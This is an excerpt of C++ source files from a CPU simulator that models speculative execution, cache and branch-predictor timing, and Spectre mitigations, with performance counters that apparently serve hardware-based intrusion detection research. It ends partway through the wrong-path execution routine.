  /// How far (in cycles) a result's ready time may run ahead of the front
  /// end before the ROB fills and stalls it. Bounds memory-level
  /// parallelism: dependent-load chains retire at memory latency instead
  /// of deferring their cost to the next serialising instruction.
  std::uint32_t rob_window = 192;
  /// Extra cycles to redirect the front end after a misprediction resolves.
  std::uint32_t mispredict_penalty = 14;
  /// Cycles for mfence beyond draining the scoreboard.
  std::uint32_t fence_cost = 4;
  /// Cycles charged to a syscall (mode switch), also serialising.
  std::uint32_t syscall_cost = 80;
  /// Extra latency for multiply / divide results.
  std::uint32_t mul_latency = 3;
  std::uint32_t div_latency = 12;
  /// Serve fetches from the pre-decoded per-page cache instead of decoding
  /// every instruction word. Purely a simulator-speed optimisation: it must
  /// never change architectural or PMU-visible behaviour (page-version
  /// invalidation preserves self-modifying-code and DEP semantics).
  bool decode_cache = true;
  /// Execution engine for `run`/`run_until_cycle`. Defaults to the
  /// process-wide `default_exec_engine()` (blocks unless overridden by
  /// `--exec=interp` / CRS_EXEC). `step()` always interprets — the block
  /// engine falls back to it for serialising and unaligned fetches.
  ExecEngine exec_engine = default_exec_engine();

  // --- speculative-execution mitigations (src/mitigate) ------------------
  /// Honor fence hints planted on conditional branches by the
  /// fence-insertion pass: a hinted branch never speculates (no wrong-path
  /// episode) and serialises the front end on its condition, costing
  /// `fence_cost` like an explicit lfence after the bounds check.
  bool honor_fence_hints = false;
  /// Speculative load hardening: wrong-path load *values* are masked to
  /// zero (the fill of the accessed line still happens — as in LLVM SLH,
  /// it is the dependent access that gets poisoned), and architectural
  /// loads pay one extra cycle for the masking data-path.
  bool slh = false;
  /// Retpoline-style: indirect jumps/calls and returns never speculate on
  /// a predicted target; the front end waits for the real one.
  bool no_indirect_speculation = false;
};

/// What the armed CPU-side mitigations did. Plain unconditional counters
/// (NOT obs-gated): every increment sits behind a mitigation flag that is
/// off by default, so the undefended hot path is untouched, and the defense
/// matrix can read ground truth in any build flavour.
struct CpuMitigationStats {
  std::uint64_t fence_stalls = 0;     ///< hinted branches serialised
  std::uint64_t fence_squashes = 0;   ///< mispredictions denied a window
  std::uint64_t slh_hardened_loads = 0;  ///< architectural loads masked-path
  std::uint64_t slh_masked_loads = 0;    ///< wrong-path values zeroed
  std::uint64_t retpoline_suppressions = 0;  ///< indirect predictions skipped
};

enum class FaultKind {
  kNone,
  kFetchPermission,    ///< fetching from a non-executable page (DEP)
  kIllegalInstruction,
  kReadPermission,
  kWritePermission,
  kStackCanary,        ///< raised by the kernel's canary-check syscall
  kHeapRedzone,        ///< torn guarded-heap redzone caught on SYS_HEAP_FREE
};

struct Fault {
  FaultKind kind = FaultKind::kNone;
  std::uint64_t pc = 0;    ///< faulting instruction address
  std::uint64_t addr = 0;  ///< offending data address, when applicable
};

enum class StopReason { kHalted, kFault, kInstructionLimit, kCycleLimit };

/// What the kernel's syscall handler tells the CPU to do next.
enum class SyscallOutcome { kContinue, kHalt };

class Cpu {
 public:
  using SyscallHandler = std::function<SyscallOutcome(Cpu&)>;

  Cpu(Memory& memory, MemoryHierarchy& hierarchy, BranchPredictor& predictor,
      Pmu& pmu, const CpuConfig& config = {});
  ~Cpu();

  /// Clears registers, sets pc/sp, clears fault & halt. Does NOT reset the
  /// caches, predictor or PMU — those persist across execve, as on real
  /// hardware.
  void reset(std::uint64_t entry_pc, std::uint64_t stack_top);

  /// Executes one architectural instruction (and any wrong-path episode it
  /// triggers). No-op when halted.
  void step();

  /// Runs until halt/fault or `max_instructions` retired.
  StopReason run(std::uint64_t max_instructions);

  /// Runs until halt/fault, the cycle counter reaches `cycle_target`, or
  /// `max_instructions` retired — the profiler's sampling loop.
  StopReason run_until_cycle(std::uint64_t cycle_target,
                             std::uint64_t max_instructions);

  bool halted() const { return halted_; }
  const Fault& fault() const { return fault_; }

  /// Raises an architectural fault (also used by the kernel, e.g. for the
  /// stack-canary check) and halts.
  void raise_fault(FaultKind kind, std::uint64_t addr);

  std::uint64_t reg(int r) const;
  void set_reg(int r, std::uint64_t value);
  std::uint64_t pc() const { return pc_; }
  void set_pc(std::uint64_t pc) { pc_ = pc; }
  std::uint64_t sp() const { return reg(isa::kStackPointer); }
  void set_sp(std::uint64_t sp) { set_reg(isa::kStackPointer, sp); }

  std::uint64_t cycle() const { return cycle_; }
  std::uint64_t retired() const { return retired_; }

  /// Wrong-path episodes entered (mispredicted branch/jump/return with a
  /// non-zero speculation budget). Always zero when CRS_OBS_ENABLED is 0.
  std::uint64_t spec_episodes() const { return spec_episodes_; }

  /// Activity of the armed CPU-side mitigations (all zero by default).
  const CpuMitigationStats& mitigation_stats() const { return mstats_; }

  void set_syscall_handler(SyscallHandler handler) {
    syscall_handler_ = std::move(handler);
  }

  Memory& memory() { return memory_; }
  MemoryHierarchy& hierarchy() { return hierarchy_; }
  BranchPredictor& predictor() { return predictor_; }
  Pmu& pmu() { return pmu_; }
  const CpuConfig& config() const { return config_; }
  const DecodeCache& decode_cache() const { return dcache_; }

  /// Translated-block cache; null when the engine is kInterp.
  const BlockCache* block_cache() const { return bcache_.get(); }
  BlockCache* block_cache() { return bcache_.get(); }

 private:
  // Checkpoint/restore (sim/snapshot.cpp) saves the registers and the
  // counters that Cpu::reset deliberately leaves alone (cycle_, retired_,
  // spec_episodes_, mstats_).
  friend class SnapshotAccess;
  // The threaded-code engine (sim/block_exec.cpp) is the interpreter's
  // other half: it shares the exec_* helpers and the scoreboard state.
  friend class BlockExecutor;

  // -- architectural execution helpers ------------------------------------
  // exec_alu covers >90% of a typical instruction stream; forcing it (and
  // alu_result) into the dispatch loop removes a call per instruction.
  __attribute__((always_inline)) void exec_alu(const DecodedSlot& slot);
  void exec_load(const isa::Instruction& instr);
  void exec_store(const isa::Instruction& instr);
  void exec_cond_branch(const DecodedSlot& slot);
  void exec_indirect_jump(const isa::Instruction& instr);
  void exec_call(const isa::Instruction& instr);
  void exec_ret(const isa::Instruction& instr);
  void exec_push_pop(const isa::Instruction& instr);
  void exec_misc(const isa::Instruction& instr);

  std::uint64_t ready_at(int r) const { return reg_ready_[r]; }
  void set_ready(int r, std::uint64_t cycle) {
    reg_ready_[r] = cycle;
    // ROB-full stall: the front end cannot run arbitrarily far behind an
    // outstanding result.
    if (cycle > cycle_ + config_.rob_window) {
      cycle_ = cycle - config_.rob_window;
    }
  }
  std::uint64_t max_ready() const;
  __attribute__((always_inline)) std::uint64_t alu_result(
      const isa::Instruction& instr, std::uint64_t a, std::uint64_t b) const;

  /// Counts L1D/L2 access+miss events for a data access.
  void attribute_data_access(const AccessOutcome& outcome);

  // -- wrong-path (transient) execution ------------------------------------
  /// Executes up to `budget` instructions starting at `spec_pc` against a
  /// checkpoint. Cache and PMU speculative counters are mutated; registers
  /// and memory are not.
  void run_wrong_path(std::uint64_t spec_pc, std::uint64_t budget);

  Memory& memory_;
  MemoryHierarchy& hierarchy_;
  BranchPredictor& predictor_;
  Pmu& pmu_;
  CpuConfig config_;
  DecodeCache dcache_;
  std::unique_ptr<BlockCache> bcache_;  ///< non-null iff exec_engine==kBlocks

  std::uint64_t regs_[isa::kNumRegisters] = {};
  std::uint64_t reg_ready_[isa::kNumRegisters] = {};
  std::uint64_t pc_ = 0;
  std::uint64_t cycle_ = 0;
  std::uint64_t retired_ = 0;
  std::uint64_t spec_episodes_ = 0;
  CpuMitigationStats mstats_;
  bool halted_ = true;
  Fault fault_;
  SyscallHandler syscall_handler_;
};

}  // namespace crs::sim
