#include "sim/program.hpp"

#include "support/error.hpp"

namespace crs::sim {

std::uint64_t Program::symbol(const std::string& label) const {
  const auto it = symbols.find(label);
  CRS_ENSURE(it != symbols.end(), "unknown symbol '" + label + "' in program '" + name + "'");
  return it->second;
}

std::uint64_t Program::image_size() const {
  std::uint64_t total = 0;
  for (const auto& seg : segments) total += seg.bytes.size();
  return total;
}

}  // namespace crs::sim
