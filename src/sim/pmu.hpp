// Performance Monitoring Unit: the hardware event counters the HID profiles.
//
// The paper's detectors (§III-A) train on six events — total cache misses,
// total cache accesses, total branch instructions, branch mispredictions,
// total instructions, total cycles — out of 56 available on the testbed,
// sweeping "feature sizes" of 1/2/4/8/16 simultaneously-counted events
// (Fig. 4). This PMU models 24 events, enough for every swept size and all
// six named features; `derived_*` helpers provide the paper's aggregate
// "total cache" events.
#pragma once

#include <array>
#include <cstdint>
#include <string_view>

namespace crs::sim {

enum class Event : std::uint8_t {
  kCycles = 0,
  kInstructions,       ///< architecturally retired
  kSpecInstructions,   ///< wrong-path (squashed) instructions
  kLoads,
  kStores,
  kL1dAccesses,
  kL1dMisses,
  kL1iAccesses,
  kL1iMisses,
  kL2Accesses,
  kL2Misses,
  kBranches,           ///< conditional branches retired
  kBranchMispredicts,
  kTakenBranches,
  kIndirectJumps,
  kCalls,
  kReturns,
  kRsbMispredicts,
  kSpecLoads,          ///< wrong-path loads (cache-state mutating)
  kClflushes,
  kMfences,
  kSyscalls,
  kStackOps,           ///< push/pop retired
  kAluOps,
  kEventCount,  // sentinel
};

inline constexpr std::size_t kEventCount =
    static_cast<std::size_t>(Event::kEventCount);

/// Counter values at a point in time.
using PmuSnapshot = std::array<std::uint64_t, kEventCount>;

/// Element-wise `after - before`. Counters are monotonic.
PmuSnapshot delta(const PmuSnapshot& before, const PmuSnapshot& after);

std::string_view event_name(Event e);

/// Paper feature: "total cache misses" = L1D + L1I + L2 misses.
std::uint64_t derived_total_cache_misses(const PmuSnapshot& s);
/// Paper feature: "total cache accesses" = L1D + L1I + L2 accesses.
std::uint64_t derived_total_cache_accesses(const PmuSnapshot& s);

class Pmu {
 public:
  void add(Event e, std::uint64_t n = 1) {
    counters_[static_cast<std::size_t>(e)] += n;
  }

  std::uint64_t count(Event e) const {
    return counters_[static_cast<std::size_t>(e)];
  }

  const PmuSnapshot& snapshot() const { return counters_; }

  void reset() { counters_.fill(0); }

 private:
  PmuSnapshot counters_{};
};

}  // namespace crs::sim
