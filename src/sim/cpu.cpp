#include "sim/cpu.hpp"

#include <algorithm>
#include <atomic>
#include <cstdlib>
#include <cstring>

#include "obs/trace.hpp"
#include "sim/block_cache.hpp"
#include "sim/block_exec.hpp"
#include "support/error.hpp"

namespace crs::sim {

using isa::Instruction;
using isa::Opcode;
using isa::OpClass;

namespace {

int initial_exec_engine() {
  const char* env = std::getenv("CRS_EXEC");
  if (env != nullptr && std::strcmp(env, "interp") == 0) return 0;
  return 1;
}

std::atomic<int>& exec_engine_state() {
  static std::atomic<int> s{initial_exec_engine()};
  return s;
}

}  // namespace

ExecEngine default_exec_engine() {
  return exec_engine_state().load(std::memory_order_relaxed) == 0
             ? ExecEngine::kInterp
             : ExecEngine::kBlocks;
}

void set_default_exec_engine(ExecEngine engine) {
  exec_engine_state().store(engine == ExecEngine::kInterp ? 0 : 1,
                            std::memory_order_relaxed);
}

const char* exec_engine_name(ExecEngine engine) {
  return engine == ExecEngine::kInterp ? "interp" : "blocks";
}

std::optional<ExecEngine> parse_exec_engine(std::string_view name) {
  if (name == "interp") return ExecEngine::kInterp;
  if (name == "blocks") return ExecEngine::kBlocks;
  return std::nullopt;
}

Cpu::Cpu(Memory& memory, MemoryHierarchy& hierarchy,
         BranchPredictor& predictor, Pmu& pmu, const CpuConfig& config)
    : memory_(memory),
      hierarchy_(hierarchy),
      predictor_(predictor),
      pmu_(pmu),
      config_(config),
      dcache_(memory) {
  if (config_.exec_engine == ExecEngine::kBlocks) {
    bcache_ = std::make_unique<BlockCache>(memory, config_.mul_latency,
                                           config_.div_latency);
  }
}

Cpu::~Cpu() = default;

void Cpu::reset(std::uint64_t entry_pc, std::uint64_t stack_top) {
  for (auto& r : regs_) r = 0;
  for (auto& r : reg_ready_) r = 0;
  pc_ = entry_pc;
  set_sp(stack_top);
  halted_ = false;
  fault_ = Fault{};
}

std::uint64_t Cpu::reg(int r) const {
  CRS_ENSURE(r >= 0 && r < isa::kNumRegisters, "register index out of range");
  return regs_[r];
}

void Cpu::set_reg(int r, std::uint64_t value) {
  CRS_ENSURE(r >= 0 && r < isa::kNumRegisters, "register index out of range");
  regs_[r] = value;
}

void Cpu::raise_fault(FaultKind kind, std::uint64_t addr) {
  fault_ = Fault{kind, pc_, addr};
  halted_ = true;
}

std::uint64_t Cpu::max_ready() const {
  std::uint64_t m = cycle_;
  for (const auto r : reg_ready_) m = std::max(m, r);
  return m;
}

void Cpu::attribute_data_access(const AccessOutcome& outcome) {
  pmu_.add(Event::kL1dAccesses);
  if (!outcome.l1_hit) {
    pmu_.add(Event::kL1dMisses);
    pmu_.add(Event::kL2Accesses);
    if (!outcome.l2_hit) pmu_.add(Event::kL2Misses);
  }
}

inline std::uint64_t Cpu::alu_result(const Instruction& instr, std::uint64_t a,
                              std::uint64_t b) const {
  const auto imm64 = static_cast<std::uint64_t>(
      static_cast<std::int64_t>(instr.imm));
  switch (instr.op) {
    case Opcode::kMovImm:
      return imm64;
    case Opcode::kMov:
      return a;
    case Opcode::kAdd:
      return a + b;
    case Opcode::kSub:
      return a - b;
    case Opcode::kMul:
      return a * b;
    case Opcode::kDivu:
      return b == 0 ? ~0ull : a / b;
    case Opcode::kRemu:
      return b == 0 ? a : a % b;
    case Opcode::kAnd:
      return a & b;
    case Opcode::kOr:
      return a | b;
    case Opcode::kXor:
      return a ^ b;
    case Opcode::kShl:
      return a << (b & 63);
    case Opcode::kShr:
      return a >> (b & 63);
    case Opcode::kSar:
      return static_cast<std::uint64_t>(static_cast<std::int64_t>(a) >>
                                        (b & 63));
    case Opcode::kAddImm:
      return a + imm64;
    case Opcode::kMulImm:
      return a * imm64;
    case Opcode::kAndImm:
      return a & imm64;
    case Opcode::kOrImm:
      return a | imm64;
    case Opcode::kXorImm:
      return a ^ imm64;
    case Opcode::kShlImm:
      return a << (static_cast<std::uint64_t>(instr.imm) & 63);
    case Opcode::kShrImm:
      return a >> (static_cast<std::uint64_t>(instr.imm) & 63);
    case Opcode::kCmpLt:
      return static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b) ? 1 : 0;
    case Opcode::kCmpLtu:
      return a < b ? 1 : 0;
    case Opcode::kCmpEq:
      return a == b ? 1 : 0;
    case Opcode::kCmpNe:
      return a != b ? 1 : 0;
    default:
      CRS_ENSURE(false, "alu_result on non-ALU opcode");
  }
}

inline void Cpu::exec_alu(const DecodedSlot& slot) {
  const Instruction& instr = slot.instr;
  const std::uint64_t a = slot.reads_rs1 ? regs_[instr.rs1] : 0;
  const std::uint64_t b = slot.reads_rs2 ? regs_[instr.rs2] : 0;
  std::uint64_t issue = cycle_;
  if (slot.reads_rs1) issue = std::max(issue, ready_at(instr.rs1));
  if (slot.reads_rs2) issue = std::max(issue, ready_at(instr.rs2));
  std::uint32_t latency = 1;
  if (instr.op == Opcode::kMul || instr.op == Opcode::kMulImm) {
    latency = config_.mul_latency;
  } else if (instr.op == Opcode::kDivu || instr.op == Opcode::kRemu) {
    latency = config_.div_latency;
  }
  regs_[instr.rd] = alu_result(instr, a, b);
  set_ready(instr.rd, issue + latency);
  pmu_.add(Event::kAluOps);
  // Out-of-order issue: ALU ops do not stall the front end; dependent
  // timing propagates through the scoreboard and materialises at branches
  // (resolution delay) and fences. This is what opens Spectre's window.
  cycle_ += 1;
  pc_ += isa::kInstructionSize;
}

void Cpu::exec_load(const Instruction& instr) {
  const std::uint64_t ea =
      regs_[instr.rs1] + static_cast<std::uint64_t>(
                             static_cast<std::int64_t>(instr.imm));
  const std::uint64_t width = instr.op == Opcode::kLoad ? 8 : 1;
  if (!memory_.check(ea, width, AccessKind::kRead)) {
    raise_fault(FaultKind::kReadPermission, ea);
    return;
  }
  const std::uint64_t issue = std::max(cycle_, ready_at(instr.rs1));
  const AccessOutcome outcome = hierarchy_.access_data(ea);
  attribute_data_access(outcome);
  pmu_.add(Event::kLoads);
  regs_[instr.rd] = instr.op == Opcode::kLoad
                        ? memory_.read_u64(ea)
                        : static_cast<std::uint64_t>(memory_.read_u8(ea));
  // Non-blocking load: the result becomes ready after the cache latency.
  // Misses additionally cost front-end throughput (finite MSHRs/MLP), so
  // miss-heavy code gets a realistically low IPC without serialising the
  // branch-resolution path that Spectre's window depends on.
  std::uint32_t latency = outcome.latency;
  if (config_.slh) {
    // SLH routes every load result through the poison-mask data path.
    latency += 1;
    ++mstats_.slh_hardened_loads;
  }
  set_ready(instr.rd, issue + latency);
  std::uint32_t throughput = 1;
  if (!outcome.l1_hit) throughput += outcome.l2_hit ? 2 : 6;
  cycle_ += throughput;
  pc_ += isa::kInstructionSize;
}

void Cpu::exec_store(const Instruction& instr) {
  const std::uint64_t ea =
      regs_[instr.rs1] + static_cast<std::uint64_t>(
                             static_cast<std::int64_t>(instr.imm));
  const std::uint64_t width = instr.op == Opcode::kStore ? 8 : 1;
  if (!memory_.check(ea, width, AccessKind::kWrite)) {
    raise_fault(FaultKind::kWritePermission, ea);
    return;
  }
  const AccessOutcome outcome = hierarchy_.access_data(ea);
  attribute_data_access(outcome);
  pmu_.add(Event::kStores);
  if (instr.op == Opcode::kStore) {
    memory_.write_u64(ea, regs_[instr.rs2]);
  } else {
    memory_.write_u8(ea, static_cast<std::uint8_t>(regs_[instr.rs2]));
  }
  // Stores drain through the store buffer: no stall on the data value.
  cycle_ += 1;
  pc_ += isa::kInstructionSize;
}

void Cpu::exec_cond_branch(const DecodedSlot& slot) {
  const Instruction& instr = slot.instr;
  const bool actual_taken = instr.op == Opcode::kBeqz
                                ? regs_[instr.rs1] == 0
                                : regs_[instr.rs1] != 0;
  const std::uint64_t taken_target =
      static_cast<std::uint32_t>(instr.imm);
  const std::uint64_t fallthrough = pc_ + isa::kInstructionSize;
  const bool predicted_taken = predictor_.pht().predict_taken(pc_);

  pmu_.add(Event::kBranches);
  if (actual_taken) pmu_.add(Event::kTakenBranches);

  const std::uint64_t resolve_at = std::max(cycle_, ready_at(instr.rs1));
  // A fence hint (planted by the mitigation pass) makes this branch behave
  // as if an lfence followed the bounds check: the front end waits for the
  // condition instead of running a wrong-path episode.
  const bool fenced = config_.honor_fence_hints && slot.fence_after;
  if (fenced) ++mstats_.fence_stalls;
  if (predicted_taken != actual_taken) {
    pmu_.add(Event::kBranchMispredicts);
    if (fenced) {
      // The misprediction is detected at resolution with nothing to squash
      // — the speculation window the fence closed.
      ++mstats_.fence_squashes;
    } else {
      const std::uint64_t delay = resolve_at - cycle_;
      const std::uint64_t budget =
          std::min<std::uint64_t>(delay, config_.max_spec_window);
      if (budget > 0) {
        run_wrong_path(predicted_taken ? taken_target : fallthrough, budget);
      }
    }
    cycle_ = resolve_at + config_.mispredict_penalty;
  } else {
    cycle_ = fenced ? resolve_at + config_.fence_cost : cycle_ + 1;
  }
  predictor_.pht().update(pc_, actual_taken);
  pc_ = actual_taken ? taken_target : fallthrough;
}

void Cpu::exec_indirect_jump(const Instruction& instr) {
  const std::uint64_t actual = regs_[instr.rs1];
  const std::uint64_t resolve_at = std::max(cycle_, ready_at(instr.rs1));
  const auto predicted = predictor_.btb().predict(pc_);

  pmu_.add(Event::kIndirectJumps);
  if (config_.no_indirect_speculation) {
    // Retpoline: the front end never consumes a BTB prediction; it waits
    // for the real target. No BTB update either — the thunk leaves nothing
    // for an attacker to poison.
    ++mstats_.retpoline_suppressions;
    cycle_ = resolve_at + 2;
    pc_ = actual;
    return;
  }
  if (predicted.has_value() && *predicted != actual) {
    pmu_.add(Event::kBranchMispredicts);
    const std::uint64_t budget =
        std::min<std::uint64_t>(resolve_at - cycle_, config_.max_spec_window);
    if (budget > 0) run_wrong_path(*predicted, budget);
    cycle_ = resolve_at + config_.mispredict_penalty;
  } else if (!predicted.has_value()) {
    cycle_ = resolve_at + 2;  // front end waits for the target
  } else {
    cycle_ += 1;
  }
  predictor_.btb().update(pc_, actual);
  pc_ = actual;
}

void Cpu::exec_call(const Instruction& instr) {
  const std::uint64_t return_address = pc_ + isa::kInstructionSize;
  const std::uint64_t target = instr.op == Opcode::kCall
                                   ? static_cast<std::uint32_t>(instr.imm)
                                   : regs_[instr.rs1];
  const std::uint64_t new_sp = sp() - 8;
  if (!memory_.check(new_sp, 8, AccessKind::kWrite)) {
    raise_fault(FaultKind::kWritePermission, new_sp);
    return;
  }
  memory_.write_u64(new_sp, return_address);
  set_sp(new_sp);
  const AccessOutcome outcome = hierarchy_.access_data(new_sp);
  attribute_data_access(outcome);
  pmu_.add(Event::kStores);
  pmu_.add(Event::kStackOps);
  pmu_.add(Event::kCalls);
  predictor_.rsb().push(return_address);

  if (instr.op == Opcode::kCallReg) {
    pmu_.add(Event::kIndirectJumps);
    const auto predicted = predictor_.btb().predict(pc_);
    const std::uint64_t resolve_at = std::max(cycle_, ready_at(instr.rs1));
    if (config_.no_indirect_speculation) {
      ++mstats_.retpoline_suppressions;
      cycle_ = resolve_at + 2;
      pc_ = target;
      return;
    }
    if (predicted.has_value() && *predicted != target) {
      pmu_.add(Event::kBranchMispredicts);
      const std::uint64_t budget = std::min<std::uint64_t>(
          resolve_at - cycle_, config_.max_spec_window);
      if (budget > 0) run_wrong_path(*predicted, budget);
      cycle_ = resolve_at + config_.mispredict_penalty;
    } else if (!predicted.has_value()) {
      cycle_ = resolve_at + 2;
    } else {
      cycle_ += 1;
    }
    predictor_.btb().update(pc_, target);
  } else {
    cycle_ += 1;
  }
  pc_ = target;
}

void Cpu::exec_ret(const Instruction&) {
  const std::uint64_t ret_sp = sp();
  if (!memory_.check(ret_sp, 8, AccessKind::kRead)) {
    raise_fault(FaultKind::kReadPermission, ret_sp);
    return;
  }
  const AccessOutcome outcome = hierarchy_.access_data(ret_sp);
  attribute_data_access(outcome);
  pmu_.add(Event::kLoads);
  pmu_.add(Event::kReturns);
  pmu_.add(Event::kStackOps);

  const std::uint64_t actual = memory_.read_u64(ret_sp);
  set_sp(ret_sp + 8);

  const std::uint64_t resolve_at = cycle_ + outcome.latency;
  // The RSB pop happens regardless of the mitigation so the hardware call
  // stack stays balanced; retpoline merely refuses to *speculate* on it.
  const auto predicted = predictor_.rsb().pop();
  if (config_.no_indirect_speculation) {
    ++mstats_.retpoline_suppressions;
    cycle_ = resolve_at + 2;
    pc_ = actual;
    return;
  }
  if (predicted.has_value() && *predicted != actual) {
    // The return address on the stack disagrees with the call stack the
    // hardware observed — the signature of a ROP overwrite. The CPU
    // transiently executes at the RSB-predicted address (Spectre-RSB).
    pmu_.add(Event::kRsbMispredicts);
    pmu_.add(Event::kBranchMispredicts);
    const std::uint64_t budget =
        std::min<std::uint64_t>(outcome.latency, config_.max_spec_window);
    if (budget > 0) run_wrong_path(*predicted, budget);
    cycle_ = resolve_at + config_.mispredict_penalty;
  } else if (!predicted.has_value()) {
    cycle_ = resolve_at + 2;  // RSB empty: wait for the load
  } else {
    cycle_ += 1;
  }
  pc_ = actual;
}

void Cpu::exec_push_pop(const Instruction& instr) {
  if (instr.op == Opcode::kPush) {
    const std::uint64_t new_sp = sp() - 8;
    if (!memory_.check(new_sp, 8, AccessKind::kWrite)) {
      raise_fault(FaultKind::kWritePermission, new_sp);
      return;
    }
    memory_.write_u64(new_sp, regs_[instr.rs1]);
    set_sp(new_sp);
    const AccessOutcome outcome = hierarchy_.access_data(new_sp);
    attribute_data_access(outcome);
    pmu_.add(Event::kStores);
  } else {  // kPop
    const std::uint64_t cur_sp = sp();
    if (!memory_.check(cur_sp, 8, AccessKind::kRead)) {
      raise_fault(FaultKind::kReadPermission, cur_sp);
      return;
    }
    const AccessOutcome outcome = hierarchy_.access_data(cur_sp);
    attribute_data_access(outcome);
    pmu_.add(Event::kLoads);
    regs_[instr.rd] = memory_.read_u64(cur_sp);
    set_ready(instr.rd, cycle_ + outcome.latency);
    set_sp(cur_sp + 8);
  }
  pmu_.add(Event::kStackOps);
  cycle_ += 1;
  pc_ += isa::kInstructionSize;
}

void Cpu::exec_misc(const Instruction& instr) {
  switch (instr.op) {
    case Opcode::kNop:
      cycle_ += 1;
      pc_ += isa::kInstructionSize;
      break;
    case Opcode::kHalt:
      halted_ = true;
      break;
    case Opcode::kClflush: {
      const std::uint64_t ea =
          regs_[instr.rs1] + static_cast<std::uint64_t>(
                                 static_cast<std::int64_t>(instr.imm));
      if (!memory_.check(ea, 1, AccessKind::kRead)) {
        raise_fault(FaultKind::kReadPermission, ea);
        return;
      }
      hierarchy_.flush_data(ea);
      // Flushing a mapped code line also drops its pre-decoded state; the
      // next fetch from that page re-decodes (and re-translates) from
      // memory. Safe here: clflush never executes inside a translated
      // block, so no live block storage is dropped.
      dcache_.invalidate(ea);
      if (bcache_ != nullptr) bcache_->invalidate(ea);
      pmu_.add(Event::kClflushes);
      cycle_ += hierarchy_.timings().flush_cost;
      pc_ += isa::kInstructionSize;
      break;
    }
    case Opcode::kMfence:
      pmu_.add(Event::kMfences);
      cycle_ = max_ready() + config_.fence_cost;
      pc_ += isa::kInstructionSize;
      break;
    case Opcode::kRdCycle:
      regs_[instr.rd] = cycle_;
      set_ready(instr.rd, cycle_ + 1);
      cycle_ += 1;
      pc_ += isa::kInstructionSize;
      break;
    case Opcode::kSyscall: {
      pmu_.add(Event::kSyscalls);
      cycle_ = max_ready() + config_.syscall_cost;
      pc_ += isa::kInstructionSize;  // handler may overwrite (execve)
      CRS_ENSURE(static_cast<bool>(syscall_handler_),
                 "SYSCALL executed with no handler installed");
      if (syscall_handler_(*this) == SyscallOutcome::kHalt) halted_ = true;
      break;
    }
    default:
      raise_fault(FaultKind::kIllegalInstruction, pc_);
      break;
  }
}

void Cpu::step() {
  if (halted_) return;

  // Front-end fetch: DEP check, then the I-cache access, then decode. The
  // decode cache collapses check+decode into one page-version-validated
  // slot read; unaligned fetch targets (a ROP pivot into mid-instruction
  // bytes) fall back to the uncached path, which handles page straddling.
  DecodedSlot local;
  const DecodedSlot* fetched;
  if (config_.decode_cache && (pc_ % isa::kInstructionSize) == 0) {
    fetched = dcache_.lookup(pc_);
    if (fetched == nullptr) {
      raise_fault(FaultKind::kFetchPermission, pc_);
      return;
    }
  } else {
    if (!memory_.check(pc_, isa::kInstructionSize, AccessKind::kExecute)) {
      raise_fault(FaultKind::kFetchPermission, pc_);
      return;
    }
    local = decode_slot(memory_, pc_);
    fetched = &local;
  }
  const auto fetch = hierarchy_.access_fetch(pc_);
  pmu_.add(Event::kL1iAccesses);
  if (!fetch.l1i_hit) pmu_.add(Event::kL1iMisses);
  cycle_ += fetch.latency;

  if (fetched->state == DecodedSlot::kIllegal) {
    raise_fault(FaultKind::kIllegalInstruction, pc_);
    return;
  }
  // Copy out of the cache: stores and wrong-path episodes below may refresh
  // the page this slot lives in.
  const DecodedSlot slot = *fetched;
  const Instruction& instr = slot.instr;

  pmu_.add(Event::kInstructions);
  ++retired_;

  switch (slot.cls) {
    case OpClass::kAlu:
      exec_alu(slot);
      break;
    case OpClass::kLoad:
      exec_load(instr);
      break;
    case OpClass::kStore:
      exec_store(instr);
      break;
    case OpClass::kCondBranch:
      exec_cond_branch(slot);
      break;
    case OpClass::kJump:
      cycle_ += 1;
      pc_ = static_cast<std::uint32_t>(instr.imm);
      break;
    case OpClass::kIndirectJump:
      exec_indirect_jump(instr);
      break;
    case OpClass::kCall:
    case OpClass::kIndirectCall:
      exec_call(instr);
      break;
    case OpClass::kRet:
      exec_ret(instr);
      break;
    case OpClass::kPush:
    case OpClass::kPop:
      exec_push_pop(instr);
      break;
    default:
      exec_misc(instr);
      break;
  }

  // Step PMU cycle counter to the CPU clock.
  const std::uint64_t pmu_cycles = pmu_.count(Event::kCycles);
  if (cycle_ > pmu_cycles) pmu_.add(Event::kCycles, cycle_ - pmu_cycles);
}

StopReason Cpu::run(std::uint64_t max_instructions) {
  return run_until_cycle(~0ull, max_instructions);
}

StopReason Cpu::run_until_cycle(std::uint64_t cycle_target,
                                std::uint64_t max_instructions) {
  if (bcache_ != nullptr) {
    return BlockExecutor::run(*this, cycle_target, max_instructions);
  }
  const std::uint64_t start_retired = retired_;
  while (!halted_) {
    if (retired_ - start_retired >= max_instructions)
      return StopReason::kInstructionLimit;
    if (cycle_ >= cycle_target) return StopReason::kCycleLimit;
    step();
  }
  return fault_.kind == FaultKind::kNone ? StopReason::kHalted
                                         : StopReason::kFault;
}

// ---------------------------------------------------------------------------
// Wrong-path (transient) execution.
// ---------------------------------------------------------------------------

namespace {

/// Byte-granular speculative store buffer with read-through to memory.
class SpecMemoryView {
 public:
  explicit SpecMemoryView(const Memory& memory) : memory_(memory) {}

  std::uint8_t read_u8(std::uint64_t addr) const {
    for (auto it = writes_.rbegin(); it != writes_.rend(); ++it) {
      if (it->first == addr) return it->second;
    }
    return memory_.read_u8(addr);
  }

  std::uint64_t read_u64(std::uint64_t addr) const {
    std::uint64_t v = 0;
    for (int i = 7; i >= 0; --i) {
      v = (v << 8) | read_u8(addr + static_cast<std::uint64_t>(i));
    }
    return v;
  }

  void write_u8(std::uint64_t addr, std::uint8_t value) {
    writes_.emplace_back(addr, value);
  }

  void write_u64(std::uint64_t addr, std::uint64_t value) {
    for (int i = 0; i < 8; ++i) {
      write_u8(addr + static_cast<std::uint64_t>(i),
               static_cast<std::uint8_t>(value >> (8 * i)));
    }
  }

 private:
  const Memory& memory_;
  std::vector<std::pair<std::uint64_t, std::uint8_t>> writes_;
};

}  // namespace

void Cpu::run_wrong_path(std::uint64_t spec_pc, std::uint64_t budget) {
  if constexpr (obs::kEnabled) {
    ++spec_episodes_;
    // The episode runs entirely at the checkpointed cycle_, so enter and
    // squash are instants (a zero-width span would render invisibly).
    obs::trace_instant("cpu.spec_enter", cycle_, static_cast<double>(budget));
  }
  std::uint64_t spec_before = 0;
  if constexpr (obs::kEnabled) {
    spec_before = pmu_.count(Event::kSpecInstructions);
  }
  std::uint64_t spec_regs[isa::kNumRegisters];
  std::copy(std::begin(regs_), std::end(regs_), std::begin(spec_regs));
  SpecMemoryView view(memory_);
